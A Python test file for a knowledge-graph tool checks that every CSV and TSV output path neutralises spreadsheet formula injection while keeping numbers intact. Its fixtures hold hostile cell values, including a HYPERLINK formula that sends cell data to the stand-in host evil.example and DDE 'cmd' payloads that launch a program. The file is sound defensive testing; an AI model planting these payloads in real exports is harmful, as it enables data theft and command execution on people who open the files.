"""No formula injection through CSV or TSV: labels, aliases, values and sentences that a spreadsheet
would run (``=``, ``+``, ``-``, ``@``, tab, carriage return first) come out of every CSV and TSV kg
writes — ``kg query --format csv|tsv``, ``kg why --format csv|tsv``, ``kg export --format csv``,
``kg serve``'s ``text/csv`` and ``text/tab-separated-values`` — as text, with their content kept;
plain numbers stay numbers."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kg.cli import app
from kg.model import Document, Evidence
from kg.pipeline import write_output
from kg.query.cells import neutralise, neutralise_csv, write_rows
from kg.rdf import to_dataset
from kg.resolve import Entity, Fact, Resolved

runner = CliRunner()

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
SENTENCE = '=cmd|" /C calc"!A0 directed the film.'


def triggers(cell: str) -> bool:
    return neutralise(cell) != cell


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_becomes_text_with_its_content_kept(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "+1.5", "2e6", "-0.25", "Ava Brooks", "", "'=x"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_csv_text_is_rewritten_only_where_needed() -> None:
    clean = "name,n\r\nAva,-3\r\n"
    assert neutralise_csv(clean) is clean
    rows = list(csv.reader(io.StringIO(neutralise_csv('name\r\n"=1+1"\r\n@x\r\n'))))
    assert rows == [["name"], ["'=1+1"], ["'@x"]]
    assert list(csv.reader(io.StringIO(write_rows([["a", "b"], ["=x", 5]])))) == [["a", "b"], ["'=x", "5"]]
    assert write_rows([["a\rb", "c"]]) == '"a\rb",c\r\n'  # a lone CR is quoted, the row stays one row


@pytest.fixture(scope="module")
def hostile_output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A build whose entity labels, aliases and sentences are all formulas."""
    doc = Document(text=SENTENCE, source="hostile.txt")
    entities = {}
    for i, label in enumerate(HOSTILE):
        key = f"{'person' if i % 2 else 'production'}/x-{i}"
        entities[key] = Entity(key, "PERSON" if i % 2 else "PRODUCTION", None, label, ("=alias()",), 1)
    keys = sorted(entities)
    evidence = Evidence(doc.id, SENTENCE, 0, 0, 4, "kg.role_verb.v2", 0.9)
    facts = [Fact(keys[i], "director", keys[i + 1], (evidence,), 0.9) for i in range(0, len(keys) - 1, 2)]
    ds = to_dataset(Resolved(entities=entities, facts=facts, statistics=[]), [doc])
    out = tmp_path_factory.mktemp("hostile") / "out"
    write_output(ds, {"articles": 1}, out)
    return out


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_safe(cells: list[str], expected: list[str]) -> None:
    assert not [c for c in cells if triggers(c)]
    for value in expected:  # the content is all there, as text
        assert "'" + value in cells, value


def test_kg_query_csv(hostile_output: Path) -> None:
    result = runner.invoke(app, ["query", "SELECT ?label ?n WHERE { ?s rdfs:label ?label BIND(-1 AS ?n) }",
                                 "--out", str(hostile_output), "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.stdout)
    assert_safe(cells, HOSTILE)
    assert "-1" in cells  # a number is not a formula


def test_kg_why_csv_and_tsv(hostile_output: Path) -> None:
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        result = runner.invoke(app, ["why", HOSTILE[1], "director", "*", "--out", str(hostile_output), "--format", fmt])
        assert result.exit_code == 0, result.output
        cells = csv_cells(result.stdout, delimiter)
        assert_safe(cells, [SENTENCE])


def test_kg_export_csv(hostile_output: Path, tmp_path: Path) -> None:
    result = runner.invoke(app, ["export", str(hostile_output), "--format", "csv", "-o", str(tmp_path / "csv")])
    assert result.exit_code == 0, result.output
    nodes = csv_cells((tmp_path / "csv" / "nodes.csv").read_bytes().decode("utf-8"))
    assert_safe(nodes, HOSTILE)
    assert "'=alias()" in nodes
    edges = (tmp_path / "csv" / "edges.csv").read_bytes().decode("utf-8")
    assert not [c for c in csv_cells(edges) if triggers(c)]


def tsv_texts(text: str) -> list[str]:
    """What a spreadsheet shows of each SPARQL TSV cell: a literal without its quotes and tag."""
    import re

    cells = [cell for line in text.splitlines()[1:] for cell in line.split("\t")]
    return [m.group(1) if (m := re.fullmatch(r'"(.*)"(@[\w-]+|\^\^<[^>]*>)?', c)) else c for c in cells]


def test_kg_query_tsv(hostile_output: Path) -> None:
    result = runner.invoke(app, ["query", "SELECT ?label ?n WHERE { ?s rdfs:label ?label BIND(-1 AS ?n) }",
                                 "--out", str(hostile_output), "--format", "tsv"])
    assert result.exit_code == 0, result.output
    texts = tsv_texts(result.stdout)
    assert not [t for t in texts if triggers(t)]
    for value in HOSTILE[:4]:
        assert "'" + value.replace('"', '\\"') in texts, value
    assert "-1" in texts


def test_the_endpoint_csv_and_tsv(hostile_output: Path) -> None:
    """Issue 16: ``Accept: text/csv`` from kg serve returned ``=HYPERLINK(…)`` cells as they were, TSV too."""
    import urllib.parse
    import urllib.request

    from kg.query.serve import Endpoint

    query = "SELECT ?label ?n WHERE { ?s rdfs:label ?label BIND(-1 AS ?n) }"
    with Endpoint(hostile_output, port=0) as ep:
        url = ep.query_url + "?" + urllib.parse.urlencode({"query": query})
        for accept in ("text/csv", "text/tab-separated-values"):
            request = urllib.request.Request(url, headers={"Accept": accept})
            with urllib.request.urlopen(request, timeout=30) as response:
                assert response.headers["Content-Type"].startswith(accept)
                text = response.read().decode("utf-8")
            if accept == "text/csv":
                cells = csv_cells(text)
                assert_safe(cells, HOSTILE)
                assert "-1" in cells
            else:
                texts = tsv_texts(text)
                assert not [t for t in texts if triggers(t)]
                assert "'" + HOSTILE[3] in texts and "-1" in texts
